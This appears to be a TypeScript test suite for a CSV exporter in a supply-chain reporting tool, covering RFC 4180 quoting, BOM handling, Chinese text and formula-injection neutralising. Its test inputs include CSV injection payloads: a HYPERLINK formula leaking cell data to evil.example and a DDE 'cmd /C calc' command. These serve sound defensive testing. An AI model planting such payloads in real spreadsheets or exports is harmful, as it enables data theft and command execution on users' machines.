/** CSV export: RFC 4180 quoting, UTF-8 BOM for Excel, formula-injection neutralising. */
import { cellError } from "../../src/core/cells";
import { CSV_BOM, csvFileName, neutraliseFormula, reportCsvFiles, specCellValue, toCsv } from "../../src/core/export/csv";
import { computeReport } from "../../src/core/report/compute";
import { REPORT_SHEETS, buildReport } from "../../src/core/report/tabs";
import type { WorkbookSpec } from "../../src/core/sheetspec";
import { validateTemplate } from "../../src/core/template/validate";
import { smallMill, workbook } from "../helpers/fixtures";

/** A strict RFC 4180 reader (test oracle): fields, quoted fields with "" escapes, CRLF records. */
function parseCsv(text: string, delimiter = ","): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let f = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error("unterminated quoted field");
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            f += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else f += text[i++];
      }
    } else {
      while (i < n && text[i] !== delimiter && text[i] !== "\r" && text[i] !== "\n") {
        if (text[i] === '"') throw new Error(`bare quote in unquoted field at ${i}`);
        f += text[i++];
      }
    }
    row.push(f);
    if (text[i] === delimiter) i++;
    else if (text.startsWith("\r\n", i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < n) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i} (records must end with CRLF)`);
  }
  if (row.length) throw new Error("last record not terminated by CRLF");
  return rows;
}

const body = (csv: string) => {
  expect(csv.startsWith(CSV_BOM)).toBe(true);
  return csv.slice(1);
};

describe("formula injection (OWASP CSV injection)", () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["+1", "'+1"],
    ["-2", "'-2"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\tcmd", "'\tcmd"],
    ["\r=1+1", `"'\r=1+1"`],
    ["\n=1", `"'\n=1"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["-", "'-"],
  ])("text %j is written as %j", (text, expected) => {
    expect(body(toCsv([[text]]))).toBe(`${expected}\r\n`);
  });

  test("numbers are never touched: -2 the number stays -2; the text '-2' is neutralised", () => {
    expect(body(toCsv([[-2, "-2", 1.5e-7, -0, 0]]))).toBe("-2,'-2,1.5e-7,0,0\r\n");
  });

  test("text that merely contains a trigger later on is left alone", () => {
    expect(body(toCsv([["a=b", "1+1", "x@y.z", "ISO 14021 - RC"]]))).toBe("a=b,1+1,x@y.z,ISO 14021 - RC\r\n");
  });

  test("booleans, null, undefined and non-finite numbers", () => {
    expect(body(toCsv([[true, false, null, undefined, Number.NaN, Infinity, ""]]))).toBe("TRUE,FALSE,,,,,\r\n");
  });

  test("neutraliseFormula on its own", () => {
    expect(neutraliseFormula("=1")).toBe("'=1");
    expect(neutraliseFormula("1")).toBe("1");
    expect(neutraliseFormula("")).toBe("");
  });
});

describe("RFC 4180 quoting", () => {
  test("commas, double quotes and line breaks are quoted; quotes are doubled", () => {
    const rows = [["a,b", 'say "hi"', "line1\nline2", "cr\rlf", "plain"]];
    expect(body(toCsv(rows))).toBe('"a,b","say ""hi""","line1\nline2","cr\rlf",plain\r\n');
  });

  test("round trip through a strict RFC 4180 reader, ragged rows and empty rows kept", () => {
    const rows = [["h1", "h2", "h3"], ["x, y", '"', "多行\r\n文本"], [], ["only"]];
    expect(parseCsv(body(toCsv(rows)))).toEqual([["h1", "h2", "h3"], ["x, y", '"', "多行\r\n文本"], [""], ["only"]]);
  });

  test("the delimiter option: ';' and tab quote their own delimiter, not commas", () => {
    expect(body(toCsv([["a;b", "c,d", 1.5]], { delimiter: ";" }))).toBe('"a;b";c,d;1.5\r\n');
    expect(body(toCsv([["a\tb", "c,d"]], { delimiter: "\t" }))).toBe('"a\tb"\tc,d\r\n');
  });

  test("every record, including the last, ends with CRLF; no bare LF separators", () => {
    const csv = body(toCsv([["a"], ["b"]]));
    expect(csv).toBe("a\r\nb\r\n");
    expect(toCsv([])).toBe(CSV_BOM);
  });
});

describe("UTF-8 with BOM, Chinese text", () => {
  test("the encoded file starts EF BB BF and Chinese survives byte for byte", () => {
    const csv = toCsv([["赤泥（干基）", "再生铝含量", "供应商：示例铝业有限公司"]]);
    const bytes = Buffer.from(csv, "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString("utf8")).toBe("赤泥（干基）,再生铝含量,供应商：示例铝业有限公司\r\n");
  });

  test("defensively, text starting with a full-width ＝ ＋ － ＠ is neutralised too; other Chinese text is not", () => {
    expect(body(toCsv([["－2", "＝1", "＋1", "＠x", "（干基）", "1．5"]]))).toBe("'－2,'＝1,'＋1,'＠x,（干基）,1．5\r\n");
  });

  test("bom: false for consumers that do not want it", () => {
    expect(toCsv([["x"]], { bom: false })).toBe("x\r\n");
  });
});

describe("reportCsvFiles", () => {
  function report(data = smallMill()): WorkbookSpec {
    const val = validateTemplate(workbook(data));
    return buildReport(val, computeReport(val), { sourceName: "mill.xlsx", alutraceVersion: "0.1.0", generatedAt: "2026-02-01T08:00:00Z" });
  }

  test("one CSV per report tab, named after the tab, each with a BOM", () => {
    const files = reportCsvFiles(report());
    expect(files.map((f) => f.name)).toEqual(Object.values(REPORT_SHEETS).map((s) => `${s}.csv`));
    for (const f of files) expect(f.csv.startsWith(CSV_BOM)).toBe(true);
  });

  test("cells carry the cached values (numbers unformatted), not formulas", () => {
    const files = reportCsvFiles(report());
    const redMud = parseCsv(body(files.find((f) => f.name === `${REPORT_SHEETS.redMud}.csv`)!.csv));
    const p1 = redMud.find((r) => r[0] === "P1")!;
    expect(Number(p1[1])).toBe(600); // output t
    expect(Number(p1[3])).toBeCloseTo(1.6388, 12); // kg red mud per kg, cut-off
    const all = files.map((f) => f.csv).join("");
    expect(all).not.toMatch(/SUMIFS|IFERROR/);
  });

  test("supplier text that looks like a formula is neutralised in the report CSVs", () => {
    const data = smallMill();
    data.supplier![0].legal_name_en = '=HYPERLINK("http://evil.example","x")';
    data.products![0].product_name = "+5182 sheet";
    const files = reportCsvFiles(report(data));
    const cover = parseCsv(body(files.find((f) => f.name === `${REPORT_SHEETS.cover}.csv`)!.csv));
    expect(cover.find((r) => r[0] === "Supplier")![1]).toBe(`'=HYPERLINK("http://evil.example","x")`);
    const data8 = parseCsv(body(files.find((f) => f.name === `${REPORT_SHEETS.data}.csv`)!.csv));
    expect(data8.some((r) => r.includes("'+5182 sheet"))).toBe(true);
    for (const f of files) for (const row of parseCsv(body(f.csv))) for (const c of row) expect(c).not.toMatch(/^[=+@\t\r]/);
  });

  test("template and code-list sheets are not exported; error cells and dates are written readably", () => {
    const spec: WorkbookSpec = {
      sheets: [
        { name: "01_Supplier", kind: "template", rows: [[{ v: "x" }]] },
        { name: "R/1 Bad:name", kind: "report", rows: [[{ v: cellError("#DIV/0!") }, { v: 45658, date: true }, { v: 1 }, {}, { v: "" }]] },
      ],
    };
    const files = reportCsvFiles(spec);
    expect(files).toHaveLength(1);
    expect(files[0].name).toBe("R_1_Bad_name.csv");
    expect(body(files[0].csv)).toBe("#DIV/0!,2025-01-01,1\r\n");
  });

  test("file names: safe characters only, Chinese kept, duplicates numbered", () => {
    expect(csvFileName("赤泥 报告")).toBe("赤泥_报告.csv");
    expect(csvFileName("../x")).toBe("x.csv");
    const spec: WorkbookSpec = { sheets: [{ name: "A B", kind: "report", rows: [] }, { name: "A/B", kind: "report", rows: [] }] };
    expect(reportCsvFiles(spec).map((f) => f.name)).toEqual(["A_B.csv", "A_B_2.csv"]);
    expect(specCellValue(undefined)).toBeNull();
  });
});
